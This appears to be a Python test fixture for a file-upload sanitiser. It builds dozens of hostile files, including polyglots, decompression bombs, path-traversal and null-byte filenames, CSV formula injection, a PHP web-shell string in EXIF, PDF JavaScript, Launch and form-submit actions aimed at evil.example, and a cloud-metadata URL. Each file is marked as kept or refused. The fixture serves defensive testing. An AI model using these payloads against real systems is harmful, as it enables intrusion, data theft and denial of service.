"""Fifty-odd files that nobody should open: each with the name it comes under, and what becomes of it.

KEPT: it is harmless once made anew. REFUSED: a sentence.
"""

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image
from pypdf import PdfReader, PdfWriter

from tests.rooms.uploads.made import pdf, picture, stream, written

KEPT, REFUSED = True, False
SCRIPT = b"<script>alert(document.cookie)</script>"
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
JS = "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\)) >>"

LINK = "<< /S /URI /URI (http://evil.example/) >>"
SENDS = "<< /S /SubmitForm /F (http://evil.example/) >>"


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, *more: bytes, data: bytes = b"", depth: int = 8, colour: int = 2) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def archive(**files: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(name, content)
    return out.getvalue()


def with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E], exif[0x013B] = SCRIPT.decode(), "<?php system($_GET['c']); ?>"
    exif[0x9286] = b"ASCII\0\0\0" + SCRIPT
    exif[0x0112] = 6  # to be turned
    exif.get_ifd(0x8825)[1] = "N"  # where it was taken
    return picture("JPEG", exif=exif, comment=SCRIPT)


def animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    out = BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def locked(password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.encrypt(password, "the owner's", algorithm="RC4-128")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def text_bomb() -> bytes:
    packed = zlib.compress(b"A" * 80_000_000, 9)
    return png(10, 10, chunk(b"zTXt", b"Comment\0\0" + packed), data=(b"\0" + b"\0" * 30) * 10)


def packed_twice() -> str:
    return stream(zlib.compress(zlib.compress(b"\0" * 400_000_000, 9), 9), "/Filter [/FlateDecode /FlateDecode]")


def deep_tree() -> bytes:
    """A tree of thirty levels, each of which hangs the next one twice: a thousand million pages in a small file."""
    levels = [f"<< /Type /Pages /Kids [{n + 1} 0 R {n + 1} 0 R] /Count 2 >>".encode() for n in range(6, 36)]
    leaf = b"<< /Type /Page /MediaBox [0 0 9 9] >>"
    return written([b"<< /Type /Catalog /Pages 6 0 R >>", b"null", b"null", b"null", b"null", *levels, leaf])


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


GOOD = picture()
JPEG = picture("JPEG")
HUGE_PIXELS = b"\0" * (60_001 // 8 + 1)

HOSTILE: dict[str, tuple[str, bytes, bool]] = {
    # two things at once
    "a PNG with a page behind it": ("a.png", GOOD + PAGE, KEPT),
    "a PNG with a program behind it": ("b.png", GOOD + b"MZ\x90\0" + b"\0" * 99, KEPT),
    "a JPEG with an archive behind it": ("c.jpg", JPEG + archive(evil=SCRIPT), KEPT),
    "a GIF that is a script": ("d.gif", b"GIF89a/*" + SCRIPT + b"*/=alert(1)//;", REFUSED),
    "a page with the head of a PNG": ("e.png", b"\x89PNG\r\n\x1a\n" + PAGE, REFUSED),
    "a page with the head of a JPEG": ("f.jpg", b"\xff\xd8\xff\xe0" + PAGE, REFUSED),
    "a page with the head of a GIF": ("g.gif", b"GIF89a" + PAGE, REFUSED),
    "a page with the head of a PDF": ("h.pdf", b"%PDF-1.7\n" + PAGE, REFUSED),
    "a PDF behind a page": ("i.pdf", PAGE + pdf(), REFUSED),
    "an archive behind a PDF": ("j.pdf", pdf() + archive(evil=SCRIPT), KEPT),
    "a PDF in the text of a PNG": ("k.png", png(2, 2, chunk(b"tEXt", b"Comment\0" + pdf()), data=b"\0" * 14), KEPT),
    "a RIFF that is a cursor": ("l.webp", b"RIFF\x40\0\0\0ACONanih" + b"\0" * 60, REFUSED),
    # not what it is called
    "a page called a picture": ("m.png", PAGE, REFUSED),
    "a drawing with a script in it": (
        "n.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
        REFUSED,
    ),
    "the same called a picture": ("o.png", b"<?xml version='1.0'?><svg onload='alert(1)'/>", REFUSED),
    "a picture called a page": ("p.html", GOOD, REFUSED),
    "a picture called a program": ("q.png.exe", GOOD, REFUSED),
    "a PDF called a picture": ("r.png", pdf(), REFUSED),
    "a picture called a PDF": ("s.pdf", GOOD, REFUSED),
    "a document of an office": ("t.docx", archive(**{"word/document.xml": SCRIPT}), REFUSED),
    "a program called a PDF": ("u.pdf", b"MZ\x90\0" + b"\0" * 200, REFUSED),
    "a table with a formula": ("v.csv", b"=cmd|' /C calc'!A0", REFUSED),
    "PostScript": ("w.pdf", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file", REFUSED),
    "an address to fetch": ("x.url", b"[InternetShortcut]\nURL=http://169.254.169.254/latest/meta-data/", REFUSED),
    "a picture of another kind": ("y.bmp", picture("BMP"), REFUSED),
    "a picture with many layers": ("z.tiff", picture("TIFF"), REFUSED),
    # odd names
    "a name turned round": ("photo\u202egnp.exe", GOOD, REFUSED),
    "a name turned round that ends well": ("annex\u202egpj.png", GOOD, KEPT),
    "a name that climbs": ("../../../etc/passwd.png", GOOD, KEPT),
    "a name that climbs elsewhere": ("..\\..\\windows\\win.png", GOOD, KEPT),
    "a name with a null in it": ("evil.php\0.png", GOOD, KEPT),
    "a name with a header in it": ('x"\r\nSet-Cookie: a=b\r\n.png', GOOD, KEPT),
    "a name that is markup": ("<img src=x onerror=alert(1)>.png", GOOD, KEPT),
    "a name that is a formula": ("=cmd|' _C calc'!A0.png", GOOD, KEPT),
    "a name of a thousand letters": ("a" * 1000 + ".png", GOOD, KEPT),
    "a name of dots": ("....", GOOD, KEPT),
    # broken and empty
    "nothing": ("a.png", b"", REFUSED),
    "a head and nothing else": ("b.png", b"\x89PNG\r\n\x1a\n", REFUSED),
    "a PNG cut off": ("c.png", picture(size=(200, 200))[:-60], REFUSED),
    "a JPEG cut off": ("d.jpg", JPEG[: len(JPEG) // 2], REFUSED),
    "a PDF cut off": ("e.pdf", pdf()[:200], REFUSED),
    "a JPEG with nothing in it": ("f.jpg", b"\xff\xd8\xff\xd9", REFUSED),
    "nulls": ("g.pdf", b"\0" * 5000, REFUSED),
    # far larger inside
    "a PNG that says it is huge": ("a.png", png(60_000, 60_000, data=b"\0" * 99), REFUSED),
    "a PNG that is huge, one bit to a pixel": (
        "b.png",
        png(60_001, 8_000, data=HUGE_PIXELS * 800, depth=1, colour=0),
        REFUSED,
    ),
    "a PNG of no width": ("c.png", png(0, 10, data=b"\0" * 10), REFUSED),
    "a PNG one pixel high": ("d.png", png(900_000, 1, data=b"\0" * 2_700_001), REFUSED),
    "a PNG whose text is a bomb": ("e.png", text_bomb(), REFUSED),
    "a GIF that says it is huge": (
        "f.gif",
        b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff" + picture("GIF")[19:],
        REFUSED,
    ),
    "a GIF that moves": ("g.gif", animated("GIF"), REFUSED),
    "a PNG that moves": ("h.png", animated("PNG"), REFUSED),
    "an archive that is a bomb": ("i.zip", archive(bomb=b"\0" * 20_000_000), REFUSED),
    "a PDF whose picture says it is huge": (
        "j.pdf",
        pdf(
            stream(b"x", "/Type /XObject /Subtype /Image /Width 90000 /Height 90000 /ColorSpace /DeviceGray"),
            page="/Resources << /XObject << /I 6 0 R >> >>",
        ).replace(b"/Resources << /Font << /F1 5 0 R >> >>", b" " * 38),
        REFUSED,
    ),
    "a PDF that is packed twice": (
        "k.pdf",
        pdf(packed_twice()).replace(b"/Contents 4 0 R", b"/Contents 6 0 R"),
        REFUSED,
    ),
    # what comes along with a picture
    "a photograph with scripts and a place in it": ("a.jpg", with_exif(), KEPT),
    "a profile of colours that is a script": ("b.png", picture(icc_profile=SCRIPT * 9), KEPT),
    "a photograph as some telephones keep it": ("c.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 99, REFUSED),
    # what a PDF can do
    "a PDF that acts when opened": ("a.pdf", pdf(JS, catalog="/OpenAction 6 0 R"), KEPT),
    "a PDF that acts on its page": ("b.pdf", pdf(JS, page="/AA << /O 6 0 R >>"), KEPT),
    "a PDF with a script by name": (
        "c.pdf",
        pdf(JS, catalog="/Names << /JavaScript << /Names [(x) 6 0 R] >> >>"),
        KEPT,
    ),
    "a PDF that starts a program": (
        "d.pdf",
        pdf(catalog="/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/C calc) >> >>"),
        KEPT,
    ),
    "a PDF with a link": (
        "e.pdf",
        pdf(page=f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A {LINK} >>]"),
        KEPT,
    ),
    "a PDF with a file in it": (
        "f.pdf",
        pdf(
            "<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>",
            stream(b"MZ evil", "/Type /EmbeddedFile"),
            catalog="/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /AF [6 0 R]",
        ),
        KEPT,
    ),
    "a PDF with a form that sends": (
        "g.pdf",
        pdf(
            f"<< /FT /Btn /T (send) /Type /Annot /Subtype /Widget /Rect [0 0 50 50] /A {SENDS} >>",
            catalog="/AcroForm << /Fields [6 0 R] /XFA (x) >>",
            page="/Annots [6 0 R]",
        ),
        KEPT,
    ),
    "a PDF whose drawing is elsewhere": (
        "h.pdf",
        pdf(stream(b"", "/F (http://evil.example/x)"), page="/Contents 6 0 R"),
        KEPT,
    ),
    "a PDF with a script hidden in a font": (
        "i.pdf",
        pdf(f"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /AA {JS} /JS (x) >>").replace(
            b"/F1 5 0 R", b"/F1 6 0 R"
        ),
        KEPT,
    ),
    "a PDF with a password": ("j.pdf", locked("secret"), REFUSED),
    "a PDF with an empty password": ("k.pdf", locked(""), REFUSED),
    "a PDF whose pages bite their tail": ("l.pdf", pdf(pages="<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), REFUSED),
    "a PDF with a thousand million pages": ("m.pdf", deep_tree(), REFUSED),
    "a PDF without a page": ("n.pdf", pdf(pages="<< /Type /Pages /Kids [] /Count 0 >>"), REFUSED),
    "a PDF with too many pages": (
        "o.pdf",
        pdf(pages=f"<< /Type /Pages /Kids [{'3 0 R ' * 500}] /Count 500 >>"),
        REFUSED,
    ),
    "a PDF whose font bites its tail": (
        "p.pdf",
        pdf("<< /Type /Font /Subtype /Type0 /DescendantFonts [6 0 R] /Me 6 0 R >>").replace(b"/F1 5 0 R", b"/F1 6 0 R"),
        KEPT,
    ),
    "a PDF of brackets": ("q.pdf", pdf(nested(50_000)).replace(b"/F1 5 0 R", b"/F1 6 0 R"), REFUSED),
    "a PDF that says where it was before": ("r.pdf", pdf(trailer="/Prev 9"), KEPT),
}
